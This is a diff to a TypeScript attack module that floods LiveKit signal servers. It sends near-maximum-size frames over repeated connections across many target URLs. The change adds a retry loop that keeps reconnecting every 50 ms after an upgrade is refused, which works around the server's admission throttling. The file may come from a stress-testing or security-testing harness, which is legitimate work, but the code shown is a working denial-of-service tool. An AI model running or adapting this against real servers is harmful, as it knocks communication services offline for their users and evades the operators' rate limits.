@@ -8,7 +8,7 @@
  * @module
  */
 import { AddTrackRequest, SignalRequest, UpdateParticipantMetadata } from "@livekit/protocol";
-import { SignalClient } from "../wire/signal_client.ts";
+import { SignalClient, UpgradeRefused } from "../wire/signal_client.ts";
 
 /** Where to, and with how much. */
 export interface Attack {
@@ -25,6 +25,10 @@ export interface AttackOutcome {
 
 /** Just below `limit.signal_message_size_limit`. */
 const FRAME_BYTES = 2 * 1024 * 1024 - 1024;
+
+/** Between two tries to come in, ms; a share is whole after two seconds. */
+const RETRY_MS = 50;
+const MOST_TRIES = 100;
 
 const binary = (message: SignalRequest["message"]) => new SignalRequest({ message }).toBinary();
 
@@ -72,13 +76,25 @@ function frames(): Frame[] {
   ];
 }
 
+/** Whoever has had more than its share is let in a little later. */
+async function open(url: string): Promise<SignalClient> {
+  for (let tries = 1;; tries++) {
+    try {
+      return await SignalClient.open(url);
+    } catch (error) {
+      if (!(error instanceof UpgradeRefused) || tries === MOST_TRIES) throw error;
+      await new Promise((resolve) => setTimeout(resolve, RETRY_MS));
+    }
+  }
+}
+
 async function attack({ urls, rounds }: Attack): Promise<AttackOutcome> {
   const heavy = frames();
   let sent = 0;
   let closed = 0;
   await Promise.all(urls.map(async (url) => {
     for (let round = 0; round < rounds; round++) {
-      let client = await SignalClient.open(url);
+      let client = await open(url);
       for (const { data, ends } of heavy) {
         client.sendFrame(data);
         sent++;
@@ -86,7 +102,7 @@ async function attack({ urls, rounds }: Attack): Promise<AttackOutcome> {
         if (!ends) continue;
         await client.ended();
         closed++;
-        client = await SignalClient.open(url);
+        client = await open(url);
       }
       await client.close();
     }
